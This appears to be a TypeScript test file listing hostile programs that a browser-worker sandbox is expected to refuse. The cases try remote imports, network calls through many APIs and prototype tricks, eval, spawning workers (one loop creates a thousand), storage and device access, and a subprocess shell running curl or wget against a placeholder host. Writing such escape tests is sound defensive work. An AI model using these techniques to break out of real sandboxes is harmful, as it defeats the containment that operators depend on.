// Programs that try to reach something outside: the network, other workers, storage, the page.
import { type Hostile, waysOut } from "./case.ts";

/** The page itself gets it from the site; the suite makes sure of that. */
export const scriptOfPage = "/engine/python.js";

const imports: Readonly<Record<string, string>> = {
  "an address": `const url = "LEAK/remote.js";
await import(url);`,
  "data at an address": `const url = "LEAK/data.json";
await import(url, { with: { type: "json" } });`,
  "a style at an address": `const url = "LEAK/style.css";
await import(url, { with: { type: "css" } } as any);`,
  "a path of the page": `const url = "${scriptOfPage}";
await import(url);`,
  "text as an address": `const url = "data:text/javascript,export default 1";
await import(url);`,
  "a blob that imports an address": `await import(URL.createObjectURL(new Blob(["import 'LEAK/inner.js'"], { type: "text/javascript" })));`,
  "a blob that fetches": `await import(URL.createObjectURL(new Blob(["export default await fetch('LEAK/blob')"], { type: "text/javascript" })));`,
  "a blob that makes a worker": `await import(URL.createObjectURL(new Blob(["export default new Worker('LEAK/worker.js')"], { type: "text/javascript" })));`,
};

/** The platform takes its time to refuse: whoever waits that long may seem to wait for ever. */
const refusedImports = Object.entries(imports).map(
  ([name, source]): Hostile => ({
    name: `an import of ${name}`,
    source: `${source}\nconsole.log("ESCAPED");`,
    end: ["threw", "deadlocked"],
  }),
);

export const reach: readonly Hostile[] = [
  ...refusedImports,
  waysOut(
    "every network interface by its name",
    `
    fetch: () => it.fetch("LEAK/fetch"),
    request: () => it.fetch(new Request("LEAK/request", { method: "POST", body: "x" })),
    later: () => it.fetchLater("LEAK/later"),
    beacon: () => it.navigator.sendBeacon("LEAK/beacon") || undefined,
    xhr: () => { const x = new it.XMLHttpRequest(); x.open("GET", "LEAK/xhr", false); x.send(); return x.status; },
    socket: () => answered(new it.WebSocket("LEAK/socket".replace("http", "ws")), "open", "error"),
    stream: () => new it.WebSocketStream("LEAK/stream".replace("http", "ws")).opened,
    events: () => answered(new it.EventSource("LEAK/events"), "open", "error"),
    transport: () => new it.WebTransport("LEAK/transport".replace("http", "https")).ready,
    peer: () => new it.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }),
    image: () => { const image = new it.Image(); image.src = "LEAK/image"; return image; },
    font: () => new it.FontFace("leak", "url(LEAK/font)").load(),
    fonts: () => { const face = new it.FontFace("leak2", "url(LEAK/fonts)"); it.fonts.add(face); return it.fonts.load("12px leak2").then((all: any) => all.length || undefined); },
    notice: () => it.Notification.permission === "granted" ? new it.Notification("x", { icon: "LEAK/icon" }) : undefined,
    scripts: () => it.importScripts("LEAK/scripts.js"),
    socketTcp: () => new it.TCPSocket("127.0.0.1", 80).opened,
  `,
  ),
  waysOut(
    "network interfaces by their prototypes and from other objects",
    `
    inherited: () => it.WorkerGlobalScope.prototype.fetch.call(it, "LEAK/inherited"),
    scope: () => Object.getPrototypeOf(Object.getPrototypeOf(it)).fetch.call(it, "LEAK/scope"),
    scripts: () => it.WorkerGlobalScope.prototype.importScripts.call(it, "LEAK/prototype.js"),
    descriptor: () => (Object.getOwnPropertyDescriptor(it, "fetch") as any).value.call(it, "LEAK/descriptor"),
    target: () => it.XMLHttpRequestEventTarget && new it.XMLHttpRequestEventTarget.prototype.constructor(),
    constructed: () => Reflect.construct(it.WebSocket, ["LEAK/constructed".replace("http", "ws")]),
    deleted: () => { delete it.fetch; return it.fetch?.("LEAK/deleted"); },
    event: () => new Event("x").view?.fetch("LEAK/event"),
    opener: () => it.opener?.fetch("LEAK/opener"),
    parent: () => it.parent.fetch("LEAK/parent"),
    top: () => it.top.location.assign("LEAK/top"),
    location: () => { it.location.href = "LEAK/location"; return it.location.href.startsWith("http") ? "moved" : undefined; },
    document: () => it.document.createElement("img"),
    window: () => it.window.open("LEAK/window"),
    port: () => it.constructor.prototype.postMessage.call(it, "out"),
  `,
  ),
  waysOut(
    "code made of text",
    `
    evaluated: () => it.eval("1"),
    indirect: () => (0, it.eval)("fetch('LEAK/eval')"),
    made: () => new Function("return 1")(),
    madeAsync: () => (async () => {}).constructor("return 1")(),
    madeGenerator: () => (function* () {}).constructor("yield 1")().next(),
    timer: () => { it.setTimeout("fetch('LEAK/timer')", 0); return "taken"; },
  `,
  ),
  {
    name: "a static import of an address",
    source: `import "LEAK/static.js";`,
    end: "refused",
    error: /LEAK|import/,
  },
  {
    name: "a literal dynamic import of an address",
    source: `await import("LEAK/literal.js");`,
    end: ["refused", "threw"],
  },
  {
    name: "an import of a package of the platform",
    source: `import { readFileSync } from "node:fs";\nconsole.log(readFileSync);`,
    end: "refused",
    error: /node:fs/,
  },
  { name: "an export from an address", source: `export * from "LEAK/star.js";`, end: "refused" },
  waysOut(
    "other workers",
    `
    worker: () => new it.Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
    module: () => new it.Worker("LEAK/worker.js", { type: "module" }),
    shared: () => new it.SharedWorker("LEAK/shared.js"),
    service: () => it.navigator.serviceWorker?.register("LEAK/service.js"),
    channel: () => new it.BroadcastChannel("leak"),
    audio: () => new it.AudioContext().audioWorklet,
    worklet: () => it.CSS.paintWorklet.addModule("LEAK/worklet.js"),
    bombs: () => { let made; for (let i = 0; i < 1000; i++) { try { made = new it.Worker("data:,"); } catch {} } return made; },
  `,
  ),
  waysOut(
    "all storage, and locks",
    `
    local: () => it.localStorage?.setItem("leak", "1"),
    session: () => it.sessionStorage?.setItem("leak", "1"),
    database: () => answered(it.indexedDB.open("leak"), "success", "error"),
    caches: () => it.caches.open("leak"),
    cookies: () => it.cookieStore.set("leak", "1"),
    files: () => it.navigator.storage.getDirectory(),
    persist: () => it.navigator.storage.persist(),
    buckets: () => it.navigator.storageBuckets.open("leak"),
    old: () => it.webkitRequestFileSystemSync(0, 1024),
    factory: () => it.IDBFactory.prototype.open.call(it.indexedDB, "leak"),
    locks: () => it.navigator.locks.request("leak", () => "held"),
    lockQuery: () => it.navigator.locks.query(),
    permission: () => it.navigator.permissions.query({ name: "notifications" }).then((state: any) => state.state === "granted" ? state : undefined),
    usb: () => it.navigator.usb.getDevices().then((all: any) => all.length || undefined),
    serial: () => it.navigator.serial.getPorts().then((all: any) => all.length || undefined),
    gpu: () => it.navigator.gpu?.requestAdapter().then((adapter: any) => adapter ?? undefined),
  `,
  ),
  {
    name: "closing its own worker",
    source: `try { (globalThis as any).close(); } catch (error) { console.log("close:", (error as Error).message); }\nconsole.log("still here");`,
    end: "returned",
    says: ["still here"],
  },
  {
    name: "closing its own worker by the prototype",
    source: `try { (globalThis as any).DedicatedWorkerGlobalScope.prototype.close.call(globalThis); } catch { console.log("refused"); }\nconsole.log("still here");`,
    end: "returned",
    says: ["refused", "still here"],
  },
  {
    name: "wasm",
    source: `const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);\ntry { await WebAssembly.instantiate(bytes); console.log("ESCAPED"); } catch { console.log("refused"); }\ntry { new WebAssembly.Module(bytes); console.log("ESCAPED"); } catch { console.log("refused"); }`,
    end: "returned",
    says: ["refused"],
  },
  {
    name: "a program of the library's own network, processes and threads",
    source: `import { createSubprocessShell, openConnection, startServer, toThread } from "asyncio";
const ways = { connect: () => openConnection("127.0.0.1", 80), serve: () => startServer(() => {}, "127.0.0.1", 0), shell: async () => { const it = await createSubprocessShell("curl LEAK/shell || wget LEAK/shell"); if ((await it.wait()) !== 0) throw new Error("there is no such program"); }, thread: () => toThread({ module: "LEAK/thread.js", name: "x" } as never) };
for (const [name, way] of Object.entries(ways)) {
  try { await way(); console.log("ESCAPED by " + name); } catch { console.log(name + ": refused"); }
}`,
    end: "returned",
    says: ["connect: refused", "serve: refused", "shell: refused", "thread: refused"],
  },
];
